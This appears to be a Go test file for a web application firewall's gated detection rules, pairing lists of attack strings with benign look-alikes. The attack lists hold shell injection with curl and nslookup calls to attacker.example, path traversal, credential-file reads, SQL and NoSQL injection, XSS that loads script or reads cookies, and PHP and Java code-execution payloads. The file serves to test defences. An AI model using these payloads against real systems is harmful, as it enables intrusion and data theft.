package waas

import (
	"net/url"
	"slices"
	"strconv"
	"testing"

	"github.com/autodefend/autodefend"
	"github.com/autodefend/autodefend/internal/policy"
	"github.com/autodefend/autodefend/internal/waas/rules"
)

// gateCases are texts for the rules that have a gate: each attacks is found at the default level, each ordinary is
// found at the level crs only.
func gateCases() map[string]struct{ attacks, ordinary []string } {
	return map[string]struct{ attacks, ordinary []string }{
		"shell": {
			[]string{"x; cat /opt/app/settings", "a | grep -r key .", "8.8.8.8 && curl http://attacker.example/x", "x; nslookup `hostname`.attacker.example", "name$(sleep 7)", "x%0aping -c 9 10.1.1.1"},
			[]string{"We had a great\ntime in March, didn't we?", "run `make test` first", "time :-) for a walk\ntime to rest"},
		},
		"paths": {
			[]string{"../../../../opt/app", "..\\..\\..\\windows\\win.ini", "../../../data", "/srv/files/../../secret", "view=../../../../x", "../config/../.env"},
			[]string{"../images/logo.png", "import { day } from '../../lib/day'", "see ../docs/start.md"},
		},
		"files": {
			[]string{"/etc/passwd", "file:///etc/hosts", "x=/proc/self/environ", "/etc/.ssh/id_rsa", "C:\\Windows\\System32\\drivers\\etc\\hosts", ".env"},
			[]string{"package.json", "Error: no space for '/tmp/upload-7'", "C:/Program Files/Vendor/app.exe", "the job (run-parts /etc/cron.hourly) is late"},
		},
		"queries": {
			[]string{"1' or '1'='1", "' OR '1", "x' or 1=1 -- ", "7 or 1=1", "admin'-- ", "1 and sleep(5)", "9) union select name from users", "'; drop table orders; --", "1' and username is not null and 'a'='a", "5 order by 3--", "' || pg_sleep(9)--"},
			[]string{"price > 10 and city = 'Köln'", "qty > 10 OR priority = 'high'", "(red OR blue) AND shoes", "006--u-m4YI-dq3--TdKc7a", "f(x)=sin(x)/x", "3. Create a user for me", "3 > 2 && 2 > 1"},
		},
		"operators": {
			[]string{`{"$ne": null}`, `{"a":{"$regex": ".*"}}`, `[$gt]`, `$where: '1'`},
			[]string{`{"$initial_referrer":"$direct"}`, "$filter", "$top"},
		},
		"scripts": {
			[]string{"<img src=x onerror=alert(1)>", "<svg/onload=confirm`1`>", "<a href=\"javascript:alert(document.domain)\">", "\" onfocus=alert(1) autofocus=\"", "<script src=//attacker.example></script>", "';alert(document.cookie)//", "<iframe srcdoc='<p>'>"},
			[]string{`<img src="https://cdn.example.com/a.jpg" alt="">`, `<button onClick={() => go()}>Go</button>`, "data:image/png;base64,iVBORw0KGgo=", "an import (EU) of wine", "document.querySelector finds one"},
		},
		"code": {
			[]string{"<?php system($_GET['c']); ?>", "${phpinfo()}", "this.constructor.constructor('return process')()", "java.lang.Runtime.getRuntime().exec('id')", "data://text/plain;base64,PD9waHAg", "phpinfo();"},
			[]string{"at process.processTicksAndRejections (node:internal)", "Caused by: java.net.SocketTimeoutException: Read timed out", "TypeError: strlen(): Argument #1 must be of type string", "<?php namespace App;", "in ${VERSION:-} of it"},
		},
		"protocol": {
			[]string{"en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"},
			[]string{`"GET /a?b=c HTTP/1.1" 200`, "TCP/IP, HTTP/2 & QUIC"},
		},
	}
}

func TestGates(t *testing.T) {
	at := func(level policy.WAASLevel) *Engine {
		return newEngine(t, rule(autodefend.Alert, func(r *policy.WAASRule) { r.Own.Level = level }), Everything())
	}
	quiet, core := at(policy.LevelDefault), at(policy.LevelCore)
	found := func(e *Engine, text string) []string {
		return ids(inspect(e, request("/", "", "application/x-www-form-urlencoded", "q="+url.QueryEscape(text))))
	}
	for name, cases := range gateCases() {
		for _, text := range cases.attacks {
			if len(found(quiet, text)) == 0 {
				t.Errorf("%s: %q isn't found", name, text)
			}
		}
		for _, text := range cases.ordinary {
			if got := found(quiet, text); len(got) > 0 {
				t.Errorf("%s: %q is found: %v", name, text, got)
			}
			if got := found(core, text); len(got) == 0 {
				t.Logf("%s: %q isn't found at the level crs either", name, text)
			}
		}
	}
}

// A rule with a gate is one rule to those who read audits: it fires once, and what it reports is its own match.
func TestGateKeepsTheMatch(t *testing.T) {
	data := request("/", "", "application/x-www-form-urlencoded", "q="+url.QueryEscape("../../../../srv/data"))
	for _, level := range []policy.WAASLevel{policy.LevelDefault, policy.LevelCore} {
		e := newEngine(t, rule(autodefend.Alert, func(r *policy.WAASRule) { r.Own.Level = level }), Everything())
		var matches []string
		for _, d := range inspect(e, data).Detections {
			if d.Rule == "930110" && d.Field.Name == "q" {
				matches = append(matches, d.Match)
			}
		}
		if !slices.Equal(matches, []string{"../"}) {
			t.Errorf("level %s: rule 930110 matches %q", level, matches)
		}
	}
}

// Every narrow rule ends in its gate and has a twin without it.
func TestNarrowRulesHaveTwins(t *testing.T) {
	all := rules.All()
	for i := range all {
		r := &all[i]
		gated := slices.ContainsFunc(r.Conditions, func(c rules.Condition) bool { return c.Gate })
		if gated != r.Narrow {
			t.Errorf("rule %d: narrow %v, with a gate %v", r.ID, r.Narrow, gated)
		}
		if !r.Narrow {
			continue
		}
		twin := slices.ContainsFunc(all, func(o rules.Rule) bool {
			return o.ID == r.ID && !o.Narrow && o.Level == rules.Core && len(o.Conditions) == len(r.Conditions)-1
		})
		if !twin || !r.Runs(rules.Default) || r.Runs(rules.Core) || r.Runs(rules.Strict) {
			t.Errorf("rule %s has no twin at the level crs, or runs there itself", strconv.Itoa(r.ID))
		}
	}
}
